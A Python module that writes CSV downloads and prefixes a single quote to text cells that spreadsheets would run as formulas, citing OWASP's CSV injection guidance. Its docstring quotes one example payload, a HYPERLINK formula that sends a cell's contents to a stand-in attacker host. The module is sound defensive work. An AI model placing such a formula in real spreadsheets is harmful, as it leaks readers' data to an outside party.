"""CSV files for spreadsheet programs: the one writer of every CSV download.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) is run
as a formula by Excel, LibreOffice and Google Sheets: a title such as
`=HYPERLINK("https://evil.example/?"&A1;"klik")` in a public list would act in the reader's
spreadsheet. As OWASP recommends ("CSV Injection"), such a text cell gets a leading single
quote, which spreadsheets read as "this is text" and do not show. Numbers, and text that is
only a number ("-5", "+62"), are left as they are, so what a person reads does not change.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet must show it, never as a formula it would run."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def csv_bytes(header: Iterable[Any], rows: Iterable[Iterable[Any]]) -> bytes:
    """UTF-8 with a byte order mark (so that Excel reads Indonesian text right), CRLF line
    ends, every cell neutralised."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, lineterminator="\r\n")
    for row in (header, *rows):
        writer.writerow([neutralise(cell) for cell in row])
    return out.getvalue().encode()
